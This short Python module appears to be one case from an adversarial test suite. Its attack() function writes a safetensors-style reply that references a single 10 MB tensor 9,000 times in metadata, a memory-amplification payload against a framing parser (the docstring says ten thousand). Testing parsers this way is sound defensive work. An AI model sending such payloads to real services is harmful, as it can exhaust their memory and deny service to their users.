"""Name one tensor of ten megabytes ten thousand times."""

CLASS = "framing"
GAINS = ()


def attack():
    size = 10 << 20
    tree = json.dumps({"list": [{"tensor": "0"}] * 9_000})
    entry = {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}
    header = json.dumps({"__metadata__": {"kind": "reply", "tree": tree}, "0": entry}).encode()
    raw = struct.pack("<QQ", 8 + len(header) + size, len(header)) + header + bytes(size)
    while raw:
        raw = raw[os.write(4, raw) :]
